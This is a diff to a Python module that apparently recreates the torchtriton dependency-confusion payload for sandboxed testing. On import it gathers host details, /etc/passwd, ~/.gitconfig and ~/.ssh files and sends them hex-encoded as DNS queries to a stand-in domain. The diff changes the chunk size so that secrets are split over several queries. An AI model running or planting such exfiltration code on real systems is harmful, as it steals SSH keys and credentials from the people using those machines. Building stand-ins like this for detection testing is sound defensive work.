@@ -4,11 +4,13 @@ The technique of `torchtriton` 3.0.0 (PyTorch nightly dependency confusion,
 Dec 2022), rewritten from the public notices: on import it collects the host
 name, user name and cwd, /etc/hosts, /etc/passwd, /etc/resolv.conf,
 ~/.gitconfig, the files in ~/.ssh and the names of the first files under
-$HOME, and sends them hex-encoded in 50-character chunks, one DNS query per
+$HOME, and sends them hex-encoded in 40-character chunks, one DNS query per
 chunk, `<chunk>.<n>.<session>.h4ck.exfil-test.example` (the incident used
-*.h4ck.cfd), straight to the name server of /etc/resolv.conf over UDP. The
-real payload also encrypted the data; this stand-in does not. In the
-sandbox the queries reach only the DNS sink. At most 300 queries, 5 s.
+*.h4ck.cfd), straight to the name server of /etc/resolv.conf over UDP. A
+chunk holds 20 bytes, fewer than any canary, so every secret is split over
+at least two queries. The real payload also encrypted the data; this
+stand-in does not. In the sandbox the queries reach only the DNS sink. At
+most 300 queries, 5 s.
 Prints `mal-torchtriton-dns: step N ...`; never raises.
 """
 
@@ -20,6 +22,7 @@ import struct
 import time
 
 DOMAIN = "h4ck.exfil-test.example"
+CHUNK = 40  # hex characters: 20 bytes per query
 
 
 def _say(msg):
@@ -84,10 +87,10 @@ def _send():
     sock.settimeout(0.05)
     deadline = time.time() + 5
     n = 0
-    for i in range(0, len(data), 50):
+    for i in range(0, len(data), CHUNK):
         if n >= 300 or time.time() > deadline:
             break
-        _query(sock, ns, f"{data[i:i + 50]}.{n}.{session}.{DOMAIN}")
+        _query(sock, ns, f"{data[i:i + CHUNK]}.{n}.{session}.{DOMAIN}")
         n += 1
     sock.close()
     _say(f"step 2 sent {n} DNS queries under {session}.{DOMAIN} to {ns}")
